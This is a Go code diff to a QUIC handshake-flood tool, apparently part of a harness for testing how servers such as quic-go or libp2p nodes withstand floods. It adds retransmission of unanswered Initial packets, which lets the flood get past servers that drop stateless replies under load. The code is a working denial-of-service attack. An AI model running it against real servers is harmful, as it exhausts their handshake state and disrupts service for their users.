@@ -1,6 +1,7 @@
 package attack
 
 import (
+	"bytes"
 	"context"
 	stdtls "crypto/tls"
 	"errors"
@@ -41,12 +42,26 @@ type QUICFloodConfig struct {
 	// Count, when positive, ends the flood after that many Initials,
 	// sooner than Duration if the rate allows.
 	Count int64
+	// Retransmit, when positive, makes every client whose Initial is
+	// still unanswered after Retransmit send it again, and again after
+	// each further Retransmit (checked every Retransmit), until it is
+	// answered or Duration ends: as a real client does after its probe
+	// timeout. A victim may drop its stateless answers under load (a
+	// quic-go server does when its queue of Retries or of
+	// CONNECTION_REFUSED packets is full), counting on such retransmits.
+	// Default: never, as an attacker spoofing its source addresses, who
+	// would never see the answers.
+	Retransmit time.Duration
 }
 
 // QUICFloodStats counts what a QUICFlood sent and what came back.
 type QUICFloodStats struct {
-	// Sent is the number of Initials sent.
+	// Sent is the number of Initials sent, each by a different client.
 	Sent int64
+	// Resent is the number of Initials sent again, after
+	// QUICFloodConfig.Retransmit without an answer. Each counts before
+	// it leaves, so that no answer to it is seen before it counts.
+	Resent int64
 	// Retried is the number of Initials answered with a Retry: the victim
 	// demanded that the sender prove its address, and kept no state.
 	Retried int64
@@ -64,6 +79,8 @@ type QUICFloodStats struct {
 // ID of 8 to 20 bytes, a TLS ClientHello offering ALPN "libp2p", padded
 // to 1200 bytes), whose socket lets that one packet out and drops everything the
 // client sends after it; what the victim answers is counted and dropped.
+// With QUICFloodConfig.Retransmit, the flood sends an unanswered Initial
+// again, as its client would have.
 // A victim without address validation therefore starts a handshake for
 // every Initial and keeps it until its handshake timeout.
 //
@@ -83,10 +100,17 @@ type QUICFlood struct {
 	done chan struct{} // closed when the flood has stopped sending
 	wg   sync.WaitGroup
 
-	mu       sync.Mutex          // guards the following
-	stats    QUICFloodStats      // what was sent and received
-	awaiting map[string]struct{} // the source connection IDs of Initials not yet answered
-	changed  chan struct{}       // closed and replaced whenever stats change
+	mu       sync.Mutex                 // guards the following
+	stats    QUICFloodStats             // what was sent and received
+	awaiting map[string]*pendingInitial // the Initials not yet answered, by source connection ID
+	changed  chan struct{}              // closed and replaced whenever stats change
+}
+
+// pendingInitial is an Initial the victim has not answered yet.
+type pendingInitial struct {
+	udp    *net.UDPConn // the socket it left from
+	packet []byte       // a copy, kept only to retransmit it
+	sentAt time.Time    // when it was last sent; guarded by QUICFlood.mu
 }
 
 // StartQUICFlood binds the flood's sockets and starts sending. The flood
@@ -126,7 +150,7 @@ func StartQUICFlood(ctx context.Context, cfg QUICFloodConfig) (*QUICFlood, error
 			HandshakeIdleTimeout: time.Second, // never reached: the dial is cancelled once the Initial is out
 		},
 		done:     make(chan struct{}),
-		awaiting: map[string]struct{}{},
+		awaiting: map[string]*pendingInitial{},
 		changed:  make(chan struct{}),
 	}
 	f.ctx, f.stop = context.WithCancel(ctx)
@@ -147,6 +171,9 @@ func StartQUICFlood(ctx context.Context, cfg QUICFloodConfig) (*QUICFlood, error
 		f.wg.Go(func() { f.drain(udp) })
 	}
 	f.wg.Go(f.run)
+	if cfg.Retransmit > 0 {
+		f.wg.Go(f.retransmit)
+	}
 	return f, nil
 }
 
@@ -201,18 +228,30 @@ func (f *QUICFlood) sendInitial(udp *net.UDPConn) {
 	ctx, cancel := context.WithCancel(f.ctx)
 	defer cancel()
 	pc := &firstPacketConn{udp: udp, unblock: make(chan struct{})}
+	var scid string // the Initial's source connection ID, once parsed
 	pc.sending = func(initial []byte) {
 		cancel() // the client has done its part
 		f.mu.Lock()
 		defer f.mu.Unlock()
-		if _, scid, ok := connIDs(initial); ok {
-			f.awaiting[string(scid)] = struct{}{}
+		_, id, ok := connIDs(initial)
+		if !ok {
+			return
 		}
+		scid = string(id)
+		p := &pendingInitial{udp: udp, sentAt: time.Now()}
+		if f.cfg.Retransmit > 0 {
+			p.packet = bytes.Clone(initial)
+		}
+		f.awaiting[scid] = p
 	}
 	pc.sent = func(err error) {
-		if err == nil {
-			f.update(func(s *QUICFloodStats) { s.Sent++ })
-		}
+		f.update(func(s *QUICFloodStats) {
+			if err == nil {
+				s.Sent++
+			} else {
+				delete(f.awaiting, scid) // never sent, so never answered
+			}
+		})
 	}
 	qt := &quicgo.Transport{Conn: pc}
 	qc, err := qt.Dial(ctx, f.target, f.tlsConf, f.qconf)
@@ -221,6 +260,40 @@ func (f *QUICFlood) sendInitial(udp *net.UDPConn) {
 	}
 	qt.Close()
 	pc.Close()
+}
+
+// retransmit sends again the Initials unanswered for cfg.Retransmit,
+// every cfg.Retransmit, until the flood's duration ends or Close.
+func (f *QUICFlood) retransmit() {
+	end := time.NewTimer(f.cfg.Duration)
+	defer end.Stop()
+	tick := time.NewTicker(f.cfg.Retransmit)
+	defer tick.Stop()
+	var due []*pendingInitial
+	for {
+		select {
+		case <-f.ctx.Done():
+			return
+		case <-end.C:
+			return
+		case now := <-tick.C:
+			due = due[:0]
+			f.update(func(s *QUICFloodStats) {
+				for _, p := range f.awaiting {
+					if now.Sub(p.sentAt) >= f.cfg.Retransmit {
+						p.sentAt = now
+						due = append(due, p)
+					}
+				}
+				s.Resent += int64(len(due))
+			})
+			for _, p := range due {
+				if _, err := p.udp.WriteTo(p.packet, f.target); err != nil {
+					f.update(func(s *QUICFloodStats) { s.Resent-- }) // it never left
+				}
+			}
+		}
+	}
 }
 
 // drain reads what the victim sends to udp until the socket is closed,
